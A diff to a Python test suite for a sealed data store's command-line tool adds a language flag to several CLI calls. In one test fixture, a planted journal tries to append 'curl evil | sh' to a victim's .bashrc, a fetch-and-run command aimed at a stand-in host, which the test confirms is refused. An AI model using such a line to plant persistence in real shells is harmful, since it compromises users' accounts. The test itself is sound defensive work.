@@ -54,7 +54,7 @@ def test_a_planted_journal_appending_to_the_next_users_bashrc_is_refused_and_not
     bashrc.parent.mkdir()
     bashrc.write_text("# victim's shell\n")
     (store.root / JOURNAL).write_text(json.dumps({"files": [], "appends": [[str(bashrc), bashrc.stat().st_size, "curl evil | sh\n"]]}))
-    code, out, err = run(capsys, "check", "--db", store.root)
+    code, out, err = run(capsys, "--lang", "en", "check", "--db", store.root)
     assert code == 2 and err.count("\n") == 1 and "Traceback" not in err
     assert f"{store.root / JOURNAL}: the journal names {bashrc}" in err and "nothing was replayed" in err
     assert bashrc.read_text() == "# victim's shell\n"
@@ -304,7 +304,7 @@ def test_without_the_key_nothing_can_be_saved_and_verify_says_why(store, capsys)
     with pytest.raises(StoreError, match="cannot read this store's seal key.*nothing was saved"):
         Store(store.root).put("o1", "unit", "u9", {"name": "x"})
     assert Store(store.root).get("o1", "unit", "u9") is None
-    code, _, err = run(capsys, "verify", "--db", store.root)
+    code, _, err = run(capsys, "--lang", "en", "verify", "--db", store.root)
     assert code == 2 and "cannot read this store's seal key" in err and err.count("\n") == 1
 
 
@@ -422,7 +422,7 @@ def test_a_lowered_schema_in_meta_json_is_refused_not_resealed(store, capsys):
     (store.root / "meta.json").write_text(json.dumps(meta | {"schema": 2}))
     with pytest.raises(StoreError, match="already sealed"):
         Store(store.root)
-    code, _, err = run(capsys, "check", "--db", store.root)
+    code, _, err = run(capsys, "--lang", "en", "check", "--db", store.root)
     assert code == 2 and "already sealed" in err and err.count("\n") == 1
     assert "seal" not in lines(log)[-1]  # nothing was resealed over the forged entry
 
@@ -452,7 +452,7 @@ def test_an_intact_file_is_not_restored(store, capsys):
     store.put("o1", "unit", "u1", {"name": "A"})
     store.put("o1", "unit", "u1", {"name": "B"})
     for name in ("data/o1/structure.json", "meta.json"):
-        code, _, err = run(capsys, "restore", name, "--db", store.root)
+        code, _, err = run(capsys, "--lang", "en", "restore", name, "--db", store.root)
         assert code == 2 and "is intact" in err, name
     assert Store(store.root).get("o1", "unit", "u1")["name"] == "B"
 
@@ -465,5 +465,5 @@ def test_a_person_added_to_people_json_by_hand_is_never_acted_on(store, capsys):
     people.write_text(json.dumps(data))
     with pytest.raises(StoreError, match="outside coordtui"):
         Store(store.root).get_person("evil")
-    code, _, err = run(capsys, "users", "list", "--db", store.root)
+    code, _, err = run(capsys, "--lang", "en", "users", "list", "--db", store.root)
     assert code == 2 and "outside coordtui" in err
